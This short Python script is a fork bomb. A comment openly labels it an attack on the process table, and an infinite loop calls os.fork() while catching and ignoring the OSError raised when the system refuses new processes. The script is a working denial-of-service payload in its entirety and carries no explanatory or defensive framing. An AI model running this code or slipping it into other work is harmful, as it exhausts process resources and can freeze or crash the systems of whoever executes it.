# Attacks: the process table from Python, ignoring every refusal.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
